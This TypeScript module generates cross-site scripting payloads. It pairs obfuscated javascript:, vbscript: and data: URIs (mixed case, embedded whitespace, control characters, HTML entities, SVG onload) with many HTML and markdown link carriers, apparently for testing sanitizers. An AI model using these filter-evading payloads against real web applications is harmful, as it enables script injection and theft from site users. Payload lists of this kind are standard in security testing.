import type { InjectionForm } from './injection-form.ts'

/** Addresses that are scripts themselves; `@` is what they run. */
export const scriptAddresses = [
  'javascript:@',
  'JaVaScRiPt:@',
  'javascript://x%0a@',
  'java\tscript:@',
  'java\nscript:@',
  '\u0001javascript:@',
  ' javascript:@',
  '&#106;avascript:@',
  'javascript&colon;@',
  'vbscript:@',
  'data:text/html,<script>parent.@</script>',
  'data:text/html;charset=utf-8,%3Cscript%3Eparent.@%3C/script%3E',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.@"/>',
]

/** What leads to an address or loads it; `@` is where it stands. */
const carriers = [
  "<a href='@'>x</a>",
  "<iframe src='@'></iframe>",
  "<object data='@'></object>",
  "<embed src='@'>",
  "<form action='@'><button>x</button></form>",
  "<form><button formaction='@'>x</button></form>",
  "<svg><a xlink:href='@'><text>x</text></a></svg>",
  "<svg><use href='@#x' /></svg>",
  "<math href='@'><mtext>x</mtext></math>",
  "<meta http-equiv=refresh content='0;url=@'>",
  "<base href='@'>",
]

/** Written alone: for places that make a link of what they are given. */
const alone = ['@', '<@>', '[x](@)', '![x](@)', '[x][y]\n\n[y]: @']

const write =
  (pattern: string, address: string): InjectionForm =>
  ({ run }) =>
    pattern.replace('@', () => address.replace('@', run))

export const addressForms: InjectionForm[] = [...carriers, ...alone].flatMap((pattern) =>
  scriptAddresses.map((address) => write(pattern, address)),
)
